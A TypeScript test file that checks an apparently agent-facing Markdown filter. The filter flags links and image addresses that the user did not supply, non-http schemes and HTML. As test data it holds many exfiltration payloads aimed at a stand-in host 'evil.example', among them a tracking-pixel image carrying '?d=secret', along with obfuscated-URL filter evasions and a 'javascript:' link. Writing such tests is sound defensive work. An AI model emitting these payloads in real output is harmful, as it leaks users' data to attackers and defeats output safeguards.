import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { markdownProblems, plain } from "../../../src/agents/text/safe-text.ts";
import { cpuTime } from "../../setup/cpu-time.ts";

const given = {
  topic: "About https://example.com/given, (https://example.com/wiki/A_(b)) and https://example.com.",
  more: ['{"link":"https://shop.example/?a=1&b=2","x":1}', "www.example.net"],
};
const problems = (text: string) => markdownProblems("text", text, given);

describe("an address that the user did not give is found", () => {
  test.each([
    ["behind a quote, as a picture", "![a](https://'@evil.example/pixel?d=secret)"],
    ["behind a double quote", 'See https://"@evil.example'],
    ["behind brackets", "[a](https://()@evil.example)"],
    ["behind square brackets", "[a](https://[]@evil.example)"],
    ["behind a backtick", "https://`@evil.example"],
    ["in a reference definition", "[a][r]\n\n[r]: https://'@evil.example/"],
    [
      "in the definition of a footnote or picture, with a title",
      '![r]\n\n[r]: https://evil.example/a "https://example.com"',
    ],
    ["in large letters", "HTTPS://'@EVIL.example"],
    ["after a name", "https://example.com@evil.example/given"],
    ["after a name and a password", "[a](https://example.com:x@evil.example)"],
    ["after a given address in quotes", 'https://example.com"@evil.example'],
    ["after the bracket of a given address", "(https://example.com)@evil.example"],
    ["after what only looks like a link", "\\[a](https://example.com)@evil.example"],
    ["after a bracket that nothing opened", "a](https://example.com)@evil.example"],
    ["after a link in a link, which is no link", "[a [b](https://example.com) c](https://example.com)@evil.example"],
    ["after a reference, which is a link by itself", "[a][b](https://example.com)@evil.example\n\n[b]: #b"],
    ["after a footnote, which is a link by itself", "[^b](https://example.com)@evil.example"],
    ["after a bracket that began in another cell", "| [a | b](https://example.com)@evil.example |"],
    ["after a bracket that began in another paragraph", "[a\n\nb](https://example.com)@evil.example"],
    ["after a backslash", "[a](https://example.com\\@evil.example)"],
    ["around a given one", "https://evil.example/?u=https://example.com/given"],
    ["as the label of a given one", "[https://evil.example](https://example.com/given)"],
    ["right after a link", "[a](https://example.com/given)https://evil.example"],
    ["below a given one", "https://example.com/given/secret"],
    ["below a given one, as a link", "[a](https://example.com/given?d=secret)"],
    ["as a link to a given one with a mark too many", "[a](https://example.com/given')"],
    ["at another host that begins like a given one", "https://example.com.evil.example"],
    ["with www", "Go to www.evil.example"],
    ["with www behind a quote", "www.'evil.example"],
    ["with escaped slashes", "https:\\/\\/evil.example"],
    ["with an escaped dot", "www\\.evil.example"],
    ["with a numbered character", "https&#58;//evil.example and &#x68;ttps://evil.example"],
    ["with a named character", "https&colon;&sol;/evil.example"],
    ["that is none", "https://[x"],
    ["without a host", "https:// evil.example"],
    ["behind a control character", "https://example.com/given\u0001"],
  ])("%s: %s", (_, text) => {
    expect(problems(text)).toContainEqual(expect.stringMatching(/^text: .+ is no address that the input gave$/s));
  });
});

describe("a link is refused that is", () => {
  test.each([
    ["without a scheme", "[a](//evil.example)"],
    ["without a scheme, in a definition", "[r]: //evil.example"],
    ["without a scheme, on the next line", "[r]:\n//evil.example"],
    ["of another scheme", "[a](javascript:alert(1))"],
    ["data", "![a](data:image/svg+xml;base64,PHN2Zz4=)"],
    ["a mail", "[a](mailto:x@evil.example)"],
    ["without slashes", "[a](https:evil.example)"],
    ["of escaped slashes", "[a](https:\\/\\/evil.example)"],
  ])("%s: %s", (_, text) => {
    expect(problems(text)).toContain("text: a link must lead to an http(s) address");
  });

  test.each([
    ["in angle brackets", "<https://evil.example>"],
    ["in angle brackets, behind a quote", "<https://'@evil.example>"],
    ["a target in angle brackets", "[a](<https://evil.example>)"],
  ])("%s: %s", (_, text) => {
    expect(problems(text)).toContain("text: write Markdown without HTML tags");
  });
});

test.each([
  ["in a sentence", "see https://example.com/given."],
  ["in brackets at the end of a sentence", "There (https://example.com/given)."],
  ["in quotes", `"https://example.com/given", 'https://example.com/given' and “https://example.com/given”`],
  ["in emphasis", "**https://example.com/given**, _https://example.com/given_"],
  ["as code", "`https://example.com/given`"],
  ["in a table", "|a|https://example.com/given|\n|-|-|"],
  ["in large letters", "HTTPS://EXAMPLE.com/given"],
  ["with brackets of its own", "https://example.com/wiki/A_(b)"],
  ["with brackets of its own, as a link", "[a](https://example.com/wiki/A_(b)), [b](https://example.com/wiki/A_(b))"],
  ["with a query", "[a](https://shop.example/?a=1&b=2)"],
  ["as a link", "[a](https://example.com/given), and [b](https://example.com)."],
  ["as a link with a title", '[a](https://example.com/given "A title")'],
  ["as a link with letters after it", "[Example](https://example.com)'s, [例](https://example.com)。次は"],
  ["as links side by side", "[a](https://example.com/given)[b](https://example.com/given)"],
  ["as a picture", "![a](https://example.com/given)"],
  ["as a picture that is a link", "[![a](https://example.com/given)](https://example.com)"],
  ["as its own label", "[https://example.com/given](https://example.com/given)"],
  ["as a reference", '[a][r]\n\n[r]: https://example.com/given "A title"'],
  ["with the slash that it may have", "https://example.com/ and https://example.com"],
  ["with www, and as browsers read that", "www.example.net, http://www.example.net/"],
  ["not at all", "1 < 2, R&D; **bold** \\* &amp; [up](#start)"],
])("a URL that the user gave may be %s: %s", (_, text) => {
  expect(problems(text)).toEqual([]);
});

test("a URL with a name or password is refused, even if the user gave it", () => {
  for (const text of ["https://example.com@evil.example/", "[a](https://:example.com@evil.example/)"]) {
    expect(markdownProblems("text", text, { topic: text })).toContainEqual(expect.stringContaining("is no address"));
  }
});

test("a long text full of brackets and marks is checked quickly", () => {
  const hard = [
    "[",
    "(",
    "](",
    "[a](https://",
    "https://a.example/.",
    "https://a.example/" + ".".repeat(1000),
    "\\",
    "&#",
  ];
  const started = cpuTime();
  for (const part of hard) problems(part.repeat(100_000 / part.length));
  problems(`https://${".".repeat(100_000)}`);
  problems(`[a](https://${"(x)".repeat(30_000)}`);

  expect(cpuTime() - started).toBeLessThan(5000);
});

test("an offline answer contains no URL from a user's words, in any form", () => {
  const parts = fc.constantFrom(
    "https",
    "http",
    ":",
    "//",
    "www.",
    "'",
    '"',
    "@evil.example",
    "&colon;",
    "\\",
    "(",
    "x ",
  );
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 12 }), (words) => {
      expect(markdownProblems("text", plain(words.join(""), "x"), {})).toEqual([]);
    }),
    { examples: [[["https", ":", "//", "'", "@evil.example"]], [["https", "&colon;", "//", "x "]]] },
  );
});
